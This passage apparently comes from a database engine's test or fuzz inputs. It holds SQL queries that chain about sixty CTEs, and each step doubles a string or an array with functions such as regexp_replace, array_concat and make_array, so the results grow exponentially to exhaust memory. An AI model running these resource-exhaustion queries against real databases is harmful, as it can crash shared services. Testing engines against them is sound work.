FROM c23), c25 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c24), c26 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c25), c27 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c26), c28 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c27), c29 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c28), c30 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c29), c31 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c30), c32 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c31), c33 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c32), c34 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c33), c35 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c34), c36 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c35), c37 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c36), c38 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c37), c39 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c38), c40 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c39), c41 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c40), c42 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c41), c43 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c42), c44 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c43), c45 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c44), c46 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c45), c47 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c46), c48 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c47), c49 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c48), c50 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c49), c51 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c50), c52 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c51), c53 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c52), c54 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c53), c55 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c54), c56 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c55), c57 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c56), c58 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c57), c59 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT concat_ws(x, x, '') AS x FROM c0), c2 AS (SELECT concat_ws(x, x, '') AS x FROM c1), c3 AS (SELECT concat_ws(x, x, '') AS x FROM c2), c4 AS (SELECT concat_ws(x, x, '') AS x FROM c3), c5 AS (SELECT concat_ws(x, x, '') AS x FROM c4), c6 AS (SELECT concat_ws(x, x, '') AS x FROM c5), c7 AS (SELECT concat_ws(x, x, '') AS x FROM c6), c8 AS (SELECT concat_ws(x, x, '') AS x FROM c7), c9 AS (SELECT concat_ws(x, x, '') AS x FROM c8), c10 AS (SELECT concat_ws(x, x, '') AS x FROM c9), c11 AS (SELECT concat_ws(x, x, '') AS x FROM c10), c12 AS (SELECT concat_ws(x, x, '') AS x FROM c11), c13 AS (SELECT concat_ws(x, x, '') AS x FROM c12), c14 AS (SELECT concat_ws(x, x, '') AS x FROM c13), c15 AS (SELECT concat_ws(x, x, '') AS x FROM c14), c16 AS (SELECT concat_ws(x, x, '') AS x FROM c15), c17 AS (SELECT concat_ws(x, x, '') AS x FROM c16), c18 AS (SELECT concat_ws(x, x, '') AS x FROM c17), c19 AS (SELECT concat_ws(x, x, '') AS x FROM c18), c20 AS (SELECT concat_ws(x, x, '') AS x FROM c19), c21 AS (SELECT concat_ws(x, x, '') AS x FROM c20), c22 AS (SELECT concat_ws(x, x, '') AS x FROM c21), c23 AS (SELECT concat_ws(x, x, '') AS x FROM c22), c24 AS (SELECT concat_ws(x, x, '') AS x FROM c23), c25 AS (SELECT concat_ws(x, x, '') AS x FROM c24), c26 AS (SELECT concat_ws(x, x, '') AS x FROM c25), c27 AS (SELECT concat_ws(x, x, '') AS x FROM c26), c28 AS (SELECT concat_ws(x, x, '') AS x FROM c27), c29 AS (SELECT concat_ws(x, x, '') AS x FROM c28), c30 AS (SELECT concat_ws(x, x, '') AS x FROM c29), c31 AS (SELECT concat_ws(x, x, '') AS x FROM c30), c32 AS (SELECT concat_ws(x, x, '') AS x FROM c31), c33 AS (SELECT concat_ws(x, x, '') AS x FROM c32), c34 AS (SELECT concat_ws(x, x, '') AS x FROM c33), c35 AS (SELECT concat_ws(x, x, '') AS x FROM c34), c36 AS (SELECT concat_ws(x, x, '') AS x FROM c35), c37 AS (SELECT concat_ws(x, x, '') AS x FROM c36), c38 AS (SELECT concat_ws(x, x, '') AS x FROM c37), c39 AS (SELECT concat_ws(x, x, '') AS x FROM c38), c40 AS (SELECT concat_ws(x, x, '') AS x FROM c39), c41 AS (SELECT concat_ws(x, x, '') AS x FROM c40), c42 AS (SELECT concat_ws(x, x, '') AS x FROM c41), c43 AS (SELECT concat_ws(x, x, '') AS x FROM c42), c44 AS (SELECT concat_ws(x, x, '') AS x FROM c43), c45 AS (SELECT concat_ws(x, x, '') AS x FROM c44), c46 AS (SELECT concat_ws(x, x, '') AS x FROM c45), c47 AS (SELECT concat_ws(x, x, '') AS x FROM c46), c48 AS (SELECT concat_ws(x, x, '') AS x FROM c47), c49 AS (SELECT concat_ws(x, x, '') AS x FROM c48), c50 AS (SELECT concat_ws(x, x, '') AS x FROM c49), c51 AS (SELECT concat_ws(x, x, '') AS x FROM c50), c52 AS (SELECT concat_ws(x, x, '') AS x FROM c51), c53 AS (SELECT concat_ws(x, x, '') AS x FROM c52), c54 AS (SELECT concat_ws(x, x, '') AS x FROM c53), c55 AS (SELECT concat_ws(x, x, '') AS x FROM c54), c56 AS (SELECT concat_ws(x, x, '') AS x FROM c55), c57 AS (SELECT concat_ws(x, x, '') AS x FROM c56), c58 AS (SELECT concat_ws(x, x, '') AS x FROM c57), c59 AS (SELECT concat_ws(x, x, '') AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_concat(x, x) AS x FROM c0), c2 AS (SELECT array_concat(x, x) AS x FROM c1), c3 AS (SELECT array_concat(x, x) AS x FROM c2), c4 AS (SELECT array_concat(x, x) AS x FROM c3), c5 AS (SELECT array_concat(x, x) AS x FROM c4), c6 AS (SELECT array_concat(x, x) AS x FROM c5), c7 AS (SELECT array_concat(x, x) AS x FROM c6), c8 AS (SELECT array_concat(x, x) AS x FROM c7), c9 AS (SELECT array_concat(x, x) AS x FROM c8), c10 AS (SELECT array_concat(x, x) AS x FROM c9), c11 AS (SELECT array_concat(x, x) AS x FROM c10), c12 AS (SELECT array_concat(x, x) AS x FROM c11), c13 AS (SELECT array_concat(x, x) AS x FROM c12), c14 AS (SELECT array_concat(x, x) AS x FROM c13), c15 AS (SELECT array_concat(x, x) AS x FROM c14), c16 AS (SELECT array_concat(x, x) AS x FROM c15), c17 AS (SELECT array_concat(x, x) AS x FROM c16), c18 AS (SELECT array_concat(x, x) AS x FROM c17), c19 AS (SELECT array_concat(x, x) AS x FROM c18), c20 AS (SELECT array_concat(x, x) AS x FROM c19), c21 AS (SELECT array_concat(x, x) AS x FROM c20), c22 AS (SELECT array_concat(x, x) AS x FROM c21), c23 AS (SELECT array_concat(x, x) AS x FROM c22), c24 AS (SELECT array_concat(x, x) AS x FROM c23), c25 AS (SELECT array_concat(x, x) AS x FROM c24), c26 AS (SELECT array_concat(x, x) AS x FROM c25), c27 AS (SELECT array_concat(x, x) AS x FROM c26), c28 AS (SELECT array_concat(x, x) AS x FROM c27), c29 AS (SELECT array_concat(x, x) AS x FROM c28), c30 AS (SELECT array_concat(x, x) AS x FROM c29), c31 AS (SELECT array_concat(x, x) AS x FROM c30), c32 AS (SELECT array_concat(x, x) AS x FROM c31), c33 AS (SELECT array_concat(x, x) AS x FROM c32), c34 AS (SELECT array_concat(x, x) AS x FROM c33), c35 AS (SELECT array_concat(x, x) AS x FROM c34), c36 AS (SELECT array_concat(x, x) AS x FROM c35), c37 AS (SELECT array_concat(x, x) AS x FROM c36), c38 AS (SELECT array_concat(x, x) AS x FROM c37), c39 AS (SELECT array_concat(x, x) AS x FROM c38), c40 AS (SELECT array_concat(x, x) AS x FROM c39), c41 AS (SELECT array_concat(x, x) AS x FROM c40), c42 AS (SELECT array_concat(x, x) AS x FROM c41), c43 AS (SELECT array_concat(x, x) AS x FROM c42), c44 AS (SELECT array_concat(x, x) AS x FROM c43), c45 AS (SELECT array_concat(x, x) AS x FROM c44), c46 AS (SELECT array_concat(x, x) AS x FROM c45), c47 AS (SELECT array_concat(x, x) AS x FROM c46), c48 AS (SELECT array_concat(x, x) AS x FROM c47), c49 AS (SELECT array_concat(x, x) AS x FROM c48), c50 AS (SELECT array_concat(x, x) AS x FROM c49), c51 AS (SELECT array_concat(x, x) AS x FROM c50), c52 AS (SELECT array_concat(x, x) AS x FROM c51), c53 AS (SELECT array_concat(x, x) AS x FROM c52), c54 AS (SELECT array_concat(x, x) AS x FROM c53), c55 AS (SELECT array_concat(x, x) AS x FROM c54), c56 AS (SELECT array_concat(x, x) AS x FROM c55), c57 AS (SELECT array_concat(x, x) AS x FROM c56), c58 AS (SELECT array_concat(x, x) AS x FROM c57), c59 AS (SELECT array_concat(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_repeat(x, 2) AS x FROM c0), c2 AS (SELECT array_repeat(x, 2) AS x FROM c1), c3 AS (SELECT array_repeat(x, 2) AS x FROM c2), c4 AS (SELECT array_repeat(x, 2) AS x FROM c3), c5 AS (SELECT array_repeat(x, 2) AS x FROM c4), c6 AS (SELECT array_repeat(x, 2) AS x FROM c5), c7 AS (SELECT array_repeat(x, 2) AS x FROM c6), c8 AS (SELECT array_repeat(x, 2) AS x FROM c7), c9 AS (SELECT array_repeat(x, 2) AS x FROM c8), c10 AS (SELECT array_repeat(x, 2) AS x FROM c9), c11 AS (SELECT array_repeat(x, 2) AS x FROM c10), c12 AS (SELECT array_repeat(x, 2) AS x FROM c11), c13 AS (SELECT array_repeat(x, 2) AS x FROM c12), c14 AS (SELECT array_repeat(x, 2) AS x FROM c13), c15 AS (SELECT array_repeat(x, 2) AS x FROM c14), c16 AS (SELECT array_repeat(x, 2) AS x FROM c15), c17 AS (SELECT array_repeat(x, 2) AS x FROM c16), c18 AS (SELECT array_repeat(x, 2) AS x FROM c17), c19 AS (SELECT array_repeat(x, 2) AS x FROM c18), c20 AS (SELECT array_repeat(x, 2) AS x FROM c19), c21 AS (SELECT array_repeat(x, 2) AS x FROM c20), c22 AS (SELECT array_repeat(x, 2) AS x FROM c21), c23 AS (SELECT array_repeat(x, 2) AS x FROM c22), c24 AS (SELECT array_repeat(x, 2) AS x FROM c23), c25 AS (SELECT array_repeat(x, 2) AS x FROM c24), c26 AS (SELECT array_repeat(x, 2) AS x FROM c25), c27 AS (SELECT array_repeat(x, 2) AS x FROM c26), c28 AS (SELECT array_repeat(x, 2) AS x FROM c27), c29 AS (SELECT array_repeat(x, 2) AS x FROM c28), c30 AS (SELECT array_repeat(x, 2) AS x FROM c29), c31 AS (SELECT array_repeat(x, 2) AS x FROM c30), c32 AS (SELECT array_repeat(x, 2) AS x FROM c31), c33 AS (SELECT array_repeat(x, 2) AS x FROM c32), c34 AS (SELECT array_repeat(x, 2) AS x FROM c33), c35 AS (SELECT array_repeat(x, 2) AS x FROM c34), c36 AS (SELECT array_repeat(x, 2) AS x FROM c35), c37 AS (SELECT array_repeat(x, 2) AS x FROM c36), c38 AS (SELECT array_repeat(x, 2) AS x FROM c37), c39 AS (SELECT array_repeat(x, 2) AS x FROM c38), c40 AS (SELECT array_repeat(x, 2) AS x FROM c39), c41 AS (SELECT array_repeat(x, 2) AS x FROM c40), c42 AS (SELECT array_repeat(x, 2) AS x FROM c41), c43 AS (SELECT array_repeat(x, 2) AS x FROM c42), c44 AS (SELECT array_repeat(x, 2) AS x FROM c43), c45 AS (SELECT array_repeat(x, 2) AS x FROM c44), c46 AS (SELECT array_repeat(x, 2) AS x FROM c45), c47 AS (SELECT array_repeat(x, 2) AS x FROM c46), c48 AS (SELECT array_repeat(x, 2) AS x FROM c47), c49 AS (SELECT array_repeat(x, 2) AS x FROM c48), c50 AS (SELECT array_repeat(x, 2) AS x FROM c49), c51 AS (SELECT array_repeat(x, 2) AS x FROM c50), c52 AS (SELECT array_repeat(x, 2) AS x FROM c51), c53 AS (SELECT array_repeat(x, 2) AS x FROM c52), c54 AS (SELECT array_repeat(x, 2) AS x FROM c53), c55 AS (SELECT array_repeat(x, 2) AS x FROM c54), c56 AS (SELECT array_repeat(x, 2) AS x FROM c55), c57 AS (SELECT array_repeat(x, 2) AS x FROM c56), c58 AS (SELECT array_repeat(x, 2) AS x FROM c57), c59 AS (SELECT array_repeat(x, 2) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_append([x], x) AS x FROM c0), c2 AS (SELECT array_append([x], x) AS x FROM c1), c3 AS (SELECT array_append([x], x) AS x FROM c2), c4 AS (SELECT array_append([x], x) AS x FROM c3), c5 AS (SELECT array_append([x], x) AS x FROM c4), c6 AS (SELECT array_append([x], x) AS x FROM c5), c7 AS (SELECT array_append([x], x) AS x FROM c6), c8 AS (SELECT array_append([x], x) AS x FROM c7), c9 AS (SELECT array_append([x], x) AS x FROM c8), c10 AS (SELECT array_append([x], x) AS x FROM c9), c11 AS (SELECT array_append([x], x) AS x FROM c10), c12 AS (SELECT array_append([x], x) AS x FROM c11), c13 AS (SELECT array_append([x], x) AS x FROM c12), c14 AS (SELECT array_append([x], x) AS x FROM c13), c15 AS (SELECT array_append([x], x) AS x FROM c14), c16 AS (SELECT array_append([x], x) AS x FROM c15), c17 AS (SELECT array_append([x], x) AS x FROM c16), c18 AS (SELECT array_append([x], x) AS x FROM c17), c19 AS (SELECT array_append([x], x) AS x FROM c18), c20 AS (SELECT array_append([x], x) AS x FROM c19), c21 AS (SELECT array_append([x], x) AS x FROM c20), c22 AS (SELECT array_append([x], x) AS x FROM c21), c23 AS (SELECT array_append([x], x) AS x FROM c22), c24 AS (SELECT array_append([x], x) AS x FROM c23), c25 AS (SELECT array_append([x], x) AS x FROM c24), c26 AS (SELECT array_append([x], x) AS x FROM c25), c27 AS (SELECT array_append([x], x) AS x FROM c26), c28 AS (SELECT array_append([x], x) AS x FROM c27), c29 AS (SELECT array_append([x], x) AS x FROM c28), c30 AS (SELECT array_append([x], x) AS x FROM c29), c31 AS (SELECT array_append([x], x) AS x FROM c30), c32 AS (SELECT array_append([x], x) AS x FROM c31), c33 AS (SELECT array_append([x], x) AS x FROM c32), c34 AS (SELECT array_append([x], x) AS x FROM c33), c35 AS (SELECT array_append([x], x) AS x FROM c34), c36 AS (SELECT array_append([x], x) AS x FROM c35), c37 AS (SELECT array_append([x], x) AS x FROM c36), c38 AS (SELECT array_append([x], x) AS x FROM c37), c39 AS (SELECT array_append([x], x) AS x FROM c38), c40 AS (SELECT array_append([x], x) AS x FROM c39), c41 AS (SELECT array_append([x], x) AS x FROM c40), c42 AS (SELECT array_append([x], x) AS x FROM c41), c43 AS (SELECT array_append([x], x) AS x FROM c42), c44 AS (SELECT array_append([x], x) AS x FROM c43), c45 AS (SELECT array_append([x], x) AS x FROM c44), c46 AS (SELECT array_append([x], x) AS x FROM c45), c47 AS (SELECT array_append([x], x) AS x FROM c46), c48 AS (SELECT array_append([x], x) AS x FROM c47), c49 AS (SELECT array_append([x], x) AS x FROM c48), c50 AS (SELECT array_append([x], x) AS x FROM c49), c51 AS (SELECT array_append([x], x) AS x FROM c50), c52 AS (SELECT array_append([x], x) AS x FROM c51), c53 AS (SELECT array_append([x], x) AS x FROM c52), c54 AS (SELECT array_append([x], x) AS x FROM c53), c55 AS (SELECT array_append([x], x) AS x FROM c54), c56 AS (SELECT array_append([x], x) AS x FROM c55), c57 AS (SELECT array_append([x], x) AS x FROM c56), c58 AS (SELECT array_append([x], x) AS x FROM c57), c59 AS (SELECT array_append([x], x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_prepend(x, [x]) AS x FROM c0), c2 AS (SELECT array_prepend(x, [x]) AS x FROM c1), c3 AS (SELECT array_prepend(x, [x]) AS x FROM c2), c4 AS (SELECT array_prepend(x, [x]) AS x FROM c3), c5 AS (SELECT array_prepend(x, [x]) AS x FROM c4), c6 AS (SELECT array_prepend(x, [x]) AS x FROM c5), c7 AS (SELECT array_prepend(x, [x]) AS x FROM c6), c8 AS (SELECT array_prepend(x, [x]) AS x FROM c7), c9 AS (SELECT array_prepend(x, [x]) AS x FROM c8), c10 AS (SELECT array_prepend(x, [x]) AS x FROM c9), c11 AS (SELECT array_prepend(x, [x]) AS x FROM c10), c12 AS (SELECT array_prepend(x, [x]) AS x FROM c11), c13 AS (SELECT array_prepend(x, [x]) AS x FROM c12), c14 AS (SELECT array_prepend(x, [x]) AS x FROM c13), c15 AS (SELECT array_prepend(x, [x]) AS x FROM c14), c16 AS (SELECT array_prepend(x, [x]) AS x FROM c15), c17 AS (SELECT array_prepend(x, [x]) AS x FROM c16), c18 AS (SELECT array_prepend(x, [x]) AS x FROM c17), c19 AS (SELECT array_prepend(x, [x]) AS x FROM c18), c20 AS (SELECT array_prepend(x, [x]) AS x FROM c19), c21 AS (SELECT array_prepend(x, [x]) AS x FROM c20), c22 AS (SELECT array_prepend(x, [x]) AS x FROM c21), c23 AS (SELECT array_prepend(x, [x]) AS x FROM c22), c24 AS (SELECT array_prepend(x, [x]) AS x FROM c23), c25 AS (SELECT array_prepend(x, [x]) AS x FROM c24), c26 AS (SELECT array_prepend(x, [x]) AS x FROM c25), c27 AS (SELECT array_prepend(x, [x]) AS x FROM c26), c28 AS (SELECT array_prepend(x, [x]) AS x FROM c27), c29 AS (SELECT array_prepend(x, [x]) AS x FROM c28), c30 AS (SELECT array_prepend(x, [x]) AS x FROM c29), c31 AS (SELECT array_prepend(x, [x]) AS x FROM c30), c32 AS (SELECT array_prepend(x, [x]) AS x FROM c31), c33 AS (SELECT array_prepend(x, [x]) AS x FROM c32), c34 AS (SELECT array_prepend(x, [x]) AS x FROM c33), c35 AS (SELECT array_prepend(x, [x]) AS x FROM c34), c36 AS (SELECT array_prepend(x, [x]) AS x FROM c35), c37 AS (SELECT array_prepend(x, [x]) AS x FROM c36), c38 AS (SELECT array_prepend(x, [x]) AS x FROM c37), c39 AS (SELECT array_prepend(x, [x]) AS x FROM c38), c40 AS (SELECT array_prepend(x, [x]) AS x FROM c39), c41 AS (SELECT array_prepend(x, [x]) AS x FROM c40), c42 AS (SELECT array_prepend(x, [x]) AS x FROM c41), c43 AS (SELECT array_prepend(x, [x]) AS x FROM c42), c44 AS (SELECT array_prepend(x, [x]) AS x FROM c43), c45 AS (SELECT array_prepend(x, [x]) AS x FROM c44), c46 AS (SELECT array_prepend(x, [x]) AS x FROM c45), c47 AS (SELECT array_prepend(x, [x]) AS x FROM c46), c48 AS (SELECT array_prepend(x, [x]) AS x FROM c47), c49 AS (SELECT array_prepend(x, [x]) AS x FROM c48), c50 AS (SELECT array_prepend(x, [x]) AS x FROM c49), c51 AS (SELECT array_prepend(x, [x]) AS x FROM c50), c52 AS (SELECT array_prepend(x, [x]) AS x FROM c51), c53 AS (SELECT array_prepend(x, [x]) AS x FROM c52), c54 AS (SELECT array_prepend(x, [x]) AS x FROM c53), c55 AS (SELECT array_prepend(x, [x]) AS x FROM c54), c56 AS (SELECT array_prepend(x, [x]) AS x FROM c55), c57 AS (SELECT array_prepend(x, [x]) AS x FROM c56), c58 AS (SELECT array_prepend(x, [x]) AS x FROM c57), c59 AS (SELECT array_prepend(x, [x]) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT [x, x] AS x FROM c0), c2 AS (SELECT [x, x] AS x FROM c1), c3 AS (SELECT [x, x] AS x FROM c2), c4 AS (SELECT [x, x] AS x FROM c3), c5 AS (SELECT [x, x] AS x FROM c4), c6 AS (SELECT [x, x] AS x FROM c5), c7 AS (SELECT [x, x] AS x FROM c6), c8 AS (SELECT [x, x] AS x FROM c7), c9 AS (SELECT [x, x] AS x FROM c8), c10 AS (SELECT [x, x] AS x FROM c9), c11 AS (SELECT [x, x] AS x FROM c10), c12 AS (SELECT [x, x] AS x FROM c11), c13 AS (SELECT [x, x] AS x FROM c12), c14 AS (SELECT [x, x] AS x FROM c13), c15 AS (SELECT [x, x] AS x FROM c14), c16 AS (SELECT [x, x] AS x FROM c15), c17 AS (SELECT [x, x] AS x FROM c16), c18 AS (SELECT [x, x] AS x FROM c17), c19 AS (SELECT [x, x] AS x FROM c18), c20 AS (SELECT [x, x] AS x FROM c19), c21 AS (SELECT [x, x] AS x FROM c20), c22 AS (SELECT [x, x] AS x FROM c21), c23 AS (SELECT [x, x] AS x FROM c22), c24 AS (SELECT [x, x] AS x FROM c23), c25 AS (SELECT [x, x] AS x FROM c24), c26 AS (SELECT [x, x] AS x FROM c25), c27 AS (SELECT [x, x] AS x FROM c26), c28 AS (SELECT [x, x] AS x FROM c27), c29 AS (SELECT [x, x] AS x FROM c28), c30 AS (SELECT [x, x] AS x FROM c29), c31 AS (SELECT [x, x] AS x FROM c30), c32 AS (SELECT [x, x] AS x FROM c31), c33 AS (SELECT [x, x] AS x FROM c32), c34 AS (SELECT [x, x] AS x FROM c33), c35 AS (SELECT [x, x] AS x FROM c34), c36 AS (SELECT [x, x] AS x FROM c35), c37 AS (SELECT [x, x] AS x FROM c36), c38 AS (SELECT [x, x] AS x FROM c37), c39 AS (SELECT [x, x] AS x FROM c38), c40 AS (SELECT [x, x] AS x FROM c39), c41 AS (SELECT [x, x] AS x FROM c40), c42 AS (SELECT [x, x] AS x FROM c41), c43 AS (SELECT [x, x] AS x FROM c42), c44 AS (SELECT [x, x] AS x FROM c43), c45 AS (SELECT [x, x] AS x FROM c44), c46 AS (SELECT [x, x] AS x FROM c45), c47 AS (SELECT [x, x] AS x FROM c46), c48 AS (SELECT [x, x] AS x FROM c47), c49 AS (SELECT [x, x] AS x FROM c48), c50 AS (SELECT [x, x] AS x FROM c49), c51 AS (SELECT [x, x] AS x FROM c50), c52 AS (SELECT [x, x] AS x FROM c51), c53 AS (SELECT [x, x] AS x FROM c52), c54 AS (SELECT [x, x] AS x FROM c53), c55 AS (SELECT [x, x] AS x FROM c54), c56 AS (SELECT [x, x] AS x FROM c55), c57 AS (SELECT [x, x] AS x FROM c56), c58 AS (SELECT [x, x] AS x FROM c57), c59 AS (SELECT [x, x] AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT make_array(x, x) AS x FROM c0), c2 AS (SELECT make_array(x, x) AS x FROM c1), c3 AS (SELECT make_array(x, x) AS x FROM c2), c4 AS (SELECT make_array(x, x) AS x FROM c3), c5 AS (SELECT make_array(x, x) AS x FROM c4), c6 AS (SELECT make_array(x, x) AS x FROM c5), c7 AS (SELECT make_array(x, x) AS x FROM c6), c8 AS (SELECT make_array(x, x) AS x FROM c7), c9 AS (SELECT make_array(x, x) AS x FROM c8), c10 AS (SELECT make_array(x, x) AS x FROM c9), c11 AS (SELECT make_array(x, x) AS x FROM c10), c12 AS (SELECT make_array(x, x) AS x FROM c11), c13 AS (SELECT make_array(x, x) AS x FROM c12), c14 AS (SELECT make_array(x, x) AS x FROM c13), c15 AS (SELECT make_array(x, x) AS x FROM c14), c16 AS (SELECT make_array(x, x) AS x FROM c15), c17 AS (SELECT make_array(x, x) AS x FROM c16), c18 AS (SELECT make_array(x, x) AS x FROM c17), c19 AS (SELECT make_array(x, x) AS x FROM c18), c20 AS (SELECT make_array(x, x) AS x FROM c19), c21 AS (SELECT make_array(x, x) AS x FROM c20), c22 AS (SELECT make_array(x, x) AS x FROM c21), c23 AS (SELECT make_array(x, x) AS x FROM c22), c24 AS (SELECT make_array(x, x) AS x FROM c23), c25 AS (SELECT make_array(x, x) AS x FROM c24), c26 AS (SELECT make_array(x, x) AS x FROM c25), c27 AS (SELECT make_array(x, x) AS x FROM c26), c28 AS (SELECT make_array(x, x) AS x FROM c27), c29 AS (SELECT make_array(x, x) AS x FROM c28), c30 AS (SELECT make_array(x, x) AS x FROM c29), c31 AS (SELECT make_array(x, x) AS x FROM c30), c32 AS (SELECT make_array(x, x) AS x FROM c31), c33 AS (SELECT make_array(x, x) AS x FROM c32), c34 AS (SELECT make_array(x, x) AS x FROM c33), c35 AS (SELECT make_array(x, x) AS x FROM c34), c36 AS (SELECT make_array(x, x) AS x FROM c35), c37 AS (SELECT make_array(x, x) AS x FROM c36), c38 AS (SELECT make_array(x, x) AS x FROM c37), c39 AS (SELECT make_array(x, x) AS x FROM c38), c40 AS (SELECT make_array(x, x) AS x FROM c39), c41 AS (SELECT make_array(x, x) AS x FROM c40), c42 AS (SELECT make_array(x, x) AS x FROM c41), c43 AS (SELECT make_array(x, x) AS x FROM c42), c44 AS (SELECT make_array(x, x) AS x FROM c43), c45 AS (SELECT make_array(x, x) AS x FROM c44), c46 AS (SELECT make_array(x, x) AS x FROM c45), c47 AS (SELECT make_array(x, x) AS x FROM c46), c48 AS (SELECT make_array(x, x) AS x FROM c47), c49 AS (SELECT make_array(x, x) AS x FROM c48), c50 AS (SELECT make_array(x, x) AS x FROM c49), c51 AS (SELECT make_array(x, x) AS x FROM c50), c52 AS (SELECT make_array(x, x) AS x FROM c51), c53 AS (SELECT make_array(x, x) AS x FROM c52), c54 AS (SELECT make_array(x, x) AS x FROM c53), c55 AS (SELECT make_array(x, x) AS x FROM c54), c56 AS (SELECT make_array(x, x) AS x FROM c55), c57 AS (SELECT make_array(x, x) AS x FROM c56), c58 AS (SELECT make_array(x, x) AS x FROM c57), c59 AS (SELECT make_array(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c0), c2 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c1), c3 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c2), c4 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c3), c5 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c4), c6 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c5), c7 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c6), c8 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c7), c9 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c8), c10 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c9), c11 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c10), c12 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c11), c13 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c12), c14 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c13), c15 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c14), c16 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c15), c17 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c16), c18 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c17), c19 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c18), c20 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c19), c21 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c20), c22 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c21), c23 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c22), c24 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c23), c25 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c24), c26 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c25), c27 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c26), c28 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c27), c29 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c28), c30 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c29), c31 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c30), c32 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c31), c33 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c32), c34 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c33), c35 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c34), c36 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c35), c37 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c36), c38 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c37), c39 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c38), c40 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c39), c41 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c40), c42 AS (SELECT array_resize(x, 2 * array_length(x), 